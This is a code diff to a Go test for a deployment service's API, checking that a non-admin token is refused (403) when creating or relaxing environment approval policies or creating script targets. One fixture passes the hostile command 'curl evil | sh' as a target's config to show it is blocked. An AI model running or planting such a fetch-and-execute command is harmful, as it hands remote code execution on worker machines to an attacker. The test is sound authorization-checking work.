@@ -128,9 +128,22 @@ func TestIdentity(t *testing.T) {
 	require.Equal(t, 200, who.Status)
 	require.Equal(t, "carol", who.str("subject"))
 
-	// Not an admin: cannot issue tokens.
+	// Not an admin: cannot issue tokens, nor set environments (their
+	// policies) and targets (the commands the workers run).
 	r = s.call("POST", "/api/v1/tokens", secret, map[string]any{"subject": "eve", "groups": []string{"admin"}})
 	require.Equal(t, 403, r.Status, r.Raw)
+	app := s.must(201, "POST", "/api/v1/applications", map[string]any{"name": "guarded", "owner_team": "x"}).str("id")
+	env := s.must(201, "POST", "/api/v1/environments", map[string]any{"application_id": app, "name": "prod",
+		"policy": map[string]any{"approvals_required": 2}}).str("id")
+	r = s.call("POST", "/api/v1/environments", secret, map[string]any{"application_id": app, "name": "qa"})
+	require.Equal(t, 403, r.Status, r.Raw)
+	r = s.call("PATCH", "/api/v1/environments/"+env, secret, map[string]any{"policy": map[string]any{"approvals_required": 0}})
+	require.Equal(t, 403, r.Status, r.Raw)
+	r = s.call("POST", "/api/v1/targets", secret, map[string]any{"environment_id": env, "name": "box", "driver": "script",
+		"config": map[string]any{"command": "curl evil | sh", "shell": true}})
+	require.Equal(t, 403, r.Status, r.Raw)
+	require.Equal(t, 200, s.call("GET", "/api/v1/environments/"+env, secret, nil).Status, "reading is open to every token")
+	require.Equal(t, 400, s.call("GET", "/api/v1/applications/%ff", secret, nil).Status, "a path that is not UTF-8 is a bad request")
 
 	// Writes carry the principal into the audit log.
 	created := s.call("POST", "/api/v1/applications", secret, map[string]any{"name": "by-carol", "owner_team": "x"})
